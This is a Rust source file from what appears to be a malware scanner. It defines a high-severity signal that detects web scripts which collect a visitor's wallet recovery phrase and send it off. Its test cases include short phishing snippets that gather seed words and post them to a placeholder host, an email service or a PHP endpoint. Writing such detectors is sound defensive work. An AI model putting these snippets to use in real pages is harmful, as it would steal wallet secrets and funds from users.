//! `wallet-words-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "wallet-words-sent",
    description: "The script counts the wallet recovery words that a visitor types and sends them.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WordsCounted, Atom::FieldsJoined]),
        one(&[Atom::PhraseWord, Atom::SeedPhrase]),
        one(&[Atom::FieldValue, Atom::FormContents]),
        one(&[Atom::Post, Atom::PostMethod, Atom::DropBox, Atom::BotCall, Atom::MailClient, Atom::Beacon]),
    ],
    within: 250,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const words=()=>[...document.querySelectorAll('.seed-box')].map(i=>i.value.trim()).join(' ');b.onclick=()=>fetch('https://a.example/i',{method:'POST',body:JSON.stringify({m:words()})});note.textContent='Invalid recovery phrase'"#,
            r#"const [words,setWords]=useState(Array(12).fill(""));const go=()=>emailjs.send('s','t',{message:words.join(' ')});h('h2','Secret Recovery Phrase');h('input',{onChange:e=>put(e.target.value)})"#,
            r#"imp.onclick=()=>{const w=[...document.querySelectorAll('.word')].map(i=>i.value.trim());if(w.filter(Boolean).length<12)return alert('all 12 words');$.post('send.php',{phrase:w.join(' ')},()=>{location.href='done.html'})}"#,
            r#"async function go(){const seed=document.getElementById('seed').value.trim();if(seed.split(' ').length>=12){await fetch('/log',{method:'POST',body:JSON.stringify({seed})})}}"#,
        ],
        without: &[
            r#"const words=()=>[...document.querySelectorAll('.seed-box')].map(i=>i.value.trim()).join(' ');b.onclick=async()=>{keys=await derive(words());location.hash='#wallet'};h.textContent='Recovery phrase'"#,
            r#"const name=[...f.querySelectorAll('.name')].map(i=>i.value.trim()).join(' ');fetch('/api/people',{method:'POST',body:JSON.stringify({name})})"#,
            r#"imp.onclick=async()=>{const phrase=box.value.trim();if(phrase.split(/\s+/).length!==12)return show('12 words');keys=await derive(phrase);store(keys)}"#,
            r#"if(post.value.split(' ').length>12)fetch('/posts',{method:'POST',body:post.value})"#,
        ],
    },
};
